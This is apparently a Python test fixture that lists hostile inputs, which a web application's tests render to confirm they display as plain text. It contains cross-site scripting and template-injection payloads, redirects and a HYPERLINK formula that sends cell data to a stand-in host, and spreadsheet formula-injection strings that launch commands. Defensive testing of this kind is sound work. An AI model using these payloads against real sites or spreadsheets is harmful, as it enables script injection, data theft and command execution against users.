"""Texts that try to be something else: markup, a script, an address, a template, a formula, a turned line.

Whoever sends a list, a clue or a request could write them; every page shows them as what they are. Each calls `alert`
where it can, which the tests watch for beside every breach of the pages' policy.
"""

from typing import Final

SCRIPT = "<script>alert(73)</script>"
IMAGE = "<img src=x onerror=alert(73)>"
ATTRIBUTE = "\"'><svg/onload=alert(73)>"
HANDLER = '" autofocus onfocus=alert(73) x="'
QUOTE = "' onmouseover='alert(73)"
LINK = "javascript:alert(73)//"
DATA = "data:text/html,<script>alert(73)</script>"
CLOSING = "</title></textarea></style></script><script>alert(73)</script>"
COMMENT = "--><iframe srcdoc='<script>alert(73)</script>'></iframe><!--"
TEMPLATE = "{{constructor.constructor('alert(73)')()}}${alert(73)}<%= alert(73) %>{% debug %}"
ANIMATION = "<svg><animate onbegin=alert(73) attributeName=x dur=1s>"
STYLE = "<style>body{background:url(//evil.example/x)}</style>"
BASE = "<base href=//evil.example/><meta http-equiv=refresh content=0;url=//evil.example>"
ENTITY = "&lt;img src=x onerror=alert(73)&gt;&#60;script&#62;"
WIDE = "＜script＞alert(73)＜/script＞"
JSON = '\\u003cscript\\u003e","x":{"__proto__":1}'
FORMULA = '=HYPERLINK("//evil.example/"&A1)'
MINUS = "-2+3+cmd|' /C calc'!A0"
AT = "@SUM(1+1)*cmd|' /C calc'!A0"

MARKUP: Final = (
    SCRIPT, IMAGE, ATTRIBUTE, HANDLER, QUOTE, LINK, DATA, CLOSING, COMMENT, TEMPLATE, ANIMATION, STYLE, BASE, ENTITY,
    WIDE, JSON,
)  # fmt: skip
FORMULAS: Final = (FORMULA, MINUS, AT, "+1+1", "＝1+1")
#: As sent, and as anybody may see it: turned lines and orders to a terminal are taken out.
UNSEEN: Final = {"演示\u202e甲\u2066乙": "演示甲乙", "演示\x1b]0;x\x07\x1b[31m丙": "演示]0;x[31m丙"}
